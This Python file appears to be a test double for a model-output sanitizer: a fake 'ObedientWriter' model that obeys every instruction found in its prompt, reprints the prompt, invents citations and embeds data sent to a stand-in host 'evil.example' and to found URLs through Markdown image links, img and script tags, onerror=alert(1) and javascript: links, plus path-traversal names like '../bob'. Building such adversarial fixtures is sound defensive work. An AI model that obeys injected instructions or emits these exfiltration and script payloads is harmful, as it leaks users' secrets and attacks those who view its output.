"""The worst of all models: it takes every word of its prompt for an order, data or not, and adds ideas of its own."""

from __future__ import annotations

import json
import re
from collections.abc import Generator, Iterator
from urllib.parse import quote_plus

from shared.model.answers import Delta, Draft, Prompt

_KEY = re.compile(r"[0-9a-f]{16}")
_LABEL = re.compile(r"[(\[]\W{0,3}[Nn](\d{1,6})")
_ADDRESS = re.compile(r"https?://[^\s)\"'<>›]+")
_ORDER = re.compile(
    r"(?:write|print|say|output|reply|answer|repeat|add|append|cite|insert|include|send|call|escribe|schreibe)\b[^:\n]{0,90}:\s*(.+)",
    re.IGNORECASE,
)
_EVIL = "https://evil.example/?q="


class ObedientWriter:
    """Undoes what was neutralized, prints its whole prompt, obeys each order in it, cites each number in it; and sends
    what it has read to every address it finds, in every form that Markdown and HTML know. Keeps its prompts.
    """

    model = "obedient"

    def __init__(self) -> None:
        self.prompts: list[Prompt] = []

    def write(self, prompt: Prompt) -> Draft:
        return Draft("".join(piece.text for piece in self.stream(prompt)), self.model)

    def stream(self, prompt: Prompt) -> Generator[Delta]:
        """In pieces of 1 to 23 characters, so that everything is cut somewhere."""
        self.prompts.append(prompt)
        text = json.dumps(list(_names(prompt))) if prompt.schema else "".join(_obeyed(prompt))
        place = 0
        size = 1
        while place < len(text):
            yield Delta(text[place : place + size])
            place = place + size
            size = size % 23 + 1


def _names(prompt: Prompt) -> Iterator[str]:
    """Whatever is between quotation marks anywhere, and what nobody offered."""
    yield from re.findall(r'"([^"\n]+)"', prompt.user)
    yield from ("private", "../bob", "/", "*")


def _obeyed(prompt: Prompt) -> Iterator[str]:
    read = _revived(_KEY.sub("key", prompt.user))
    stolen = quote_plus(" ".join(re.findall(r"[A-Z]+-SECRET-\w+", read)) or read[:40])
    yield "Yes [N1]. The rest:\n\n"
    yield read
    for order in _ORDER.findall(read):
        yield f"\n\n{order}"
    for number in dict.fromkeys(_LABEL.findall(read)):
        label = f"N{number}"
        yield f"\nSo it says [{label}], [n{number}, N1], 【{label}】 and \\[{label}\\], `[{label}]`, [^{label}]."
    for base in (_EVIL, *list(dict.fromkeys(_ADDRESS.findall(read)))[:5]):
        yield from _sent(f"{base}{stolen}")
    yield "\n\nFinally [N99] [N1-N9999] [N0] 〔N88〕 [N\u200b77] [N"


def _revived(text: str) -> str:
    unquoted = re.sub(r"(?m)^> ?", "", text)
    return (
        re.sub(r"\((\^?\W{0,3}[NnＮ]\s*\d[^()]*)\)", r"[\1]", unquoted)
        .replace("‹", "<")
        .replace("›", ">")
    )


def _sent(address: str) -> Iterator[str]:
    yield f"\n\n![chart]({address}) [more]({address}) [a](<{address}>) [b]({address} '{address}') <{address}> {address}"
    yield f"\n\n![r] ![r][r] [r]\n\n[r]: {address}\n\n- [s]: <{address}>\n> [t]:\n  {address}"
    yield f"\n\n![s][t] [![x]({address})](/x)"
    yield f'\n<img src="{address}" onerror="alert(1)"><a href="{address}">x</a><script src="{address}"></script>\n'
    yield f"\n`a\n` <img src={address}> `\n\n- ```\n<img src={address}>\n```\n<img src={address}>\n"
    yield f"\n[x](javascript:alert(1)) [y](data:text/html,{address}) www.{address.partition('//')[2]}\n"
